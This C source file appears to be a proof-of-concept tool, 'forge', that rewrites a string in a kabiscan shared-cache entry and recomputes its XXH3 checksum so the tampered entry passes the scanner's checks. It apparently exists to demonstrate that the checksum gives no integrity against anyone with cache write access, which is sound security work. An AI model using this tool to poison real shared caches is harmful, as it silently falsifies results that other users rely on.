// SPDX-License-Identifier: GPL-2.0
/*
 * forge ENTRY FROM TO: what someone who can write a shared cache can do.
 * Replace the first FROM in the data part of cache entry ENTRY by TO (same
 * length), then write the data checksum again, so the entry passes every
 * check kabiscan makes when it reads it. Layout: scanner/cache_entry.c.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <xxhash.h>

int main(int argc, char **argv)
{
	static unsigned char buf[64 << 20];
	uint64_t meta, data, h;
	unsigned char *d, *hit;
	size_t n, i;
	FILE *f;

	if (argc != 4 || strlen(argv[2]) != strlen(argv[3]))
		return fprintf(stderr, "usage: forge ENTRY FROM TO (same length)\n"), 2;
	f = fopen(argv[1], "r+b");
	if (!f)
		return perror(argv[1]), 1;
	n = fread(buf, 1, sizeof(buf), f);
	memcpy(&meta, buf + 16, 8);
	memcpy(&data, buf + 24, 8);
	if (n < 64 || 64 + meta + data != n)
		return fprintf(stderr, "%s: not an entry\n", argv[1]), 1;
	d = buf + 64 + meta;
	hit = NULL;
	for (i = 0; !hit && i + strlen(argv[2]) <= data; i++)
		if (!memcmp(d + i, argv[2], strlen(argv[2])) && (!i || !d[i - 1]) &&
		    i + strlen(argv[2]) < data && !d[i + strlen(argv[2])])
			hit = d + i;
	if (!hit)
		return fprintf(stderr, "%s: no string '%s' in its data\n", argv[1], argv[2]), 1;
	memcpy(hit, argv[3], strlen(argv[3]));
	h = XXH3_64bits(d, data);
	memcpy(buf + 40, &h, 8);
	rewind(f);
	if (fwrite(buf, 1, n, f) != n || fclose(f))
		return perror(argv[1]), 1;
	return 0;
}
